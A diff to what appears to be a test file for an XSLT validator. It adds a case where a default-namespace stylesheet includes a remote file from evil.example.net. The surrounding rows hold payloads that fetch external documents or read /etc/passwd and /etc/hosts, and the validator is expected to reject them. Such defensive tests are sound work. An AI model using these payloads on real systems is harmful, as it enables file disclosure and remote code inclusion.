@@ -128,6 +128,8 @@ describe.each(providers())('ingest accounts on %s', (provider) => {
       [sheet('<!ENTITY e "x">'), VALIDATION.xsltNotAllowed('ENTITY declarations')],
       [sheet('<xsl:include href="http://evil.example.net/x.xsl"/>'), VALIDATION.xsltNotAllowed('xsl:include and xsl:import (external references)')],
       [sheet('<xsl:import href="other.xsl"/>'), VALIDATION.xsltNotAllowed('xsl:include and xsl:import (external references)')],
+      // XSLT as the default namespace: no prefix.
+      ['<stylesheet version="1.0" xmlns="http://www.w3.org/1999/XSL/Transform"><include href="http://evil.example.net/x.xsl"/></stylesheet>', VALIDATION.xsltNotAllowed('xsl:include and xsl:import (external references)')],
       [sheet(`<xsl:template match="/"><xsl:copy-of select="document('http://evil.example.net/x.xml')"/></xsl:template>`), VALIDATION.xsltNotAllowed('document() references other than the stylesheet itself')],
       [sheet(`<xsl:template match="/"><xsl:value-of select="unparsed-text('/etc/passwd')"/></xsl:template>`), VALIDATION.xsltNotAllowed('references to external documents')],
       [sheet('<xsl:template match="/"><a href="file:/etc/hosts"/></xsl:template>'), VALIDATION.xsltNotAllowed('file: references')],
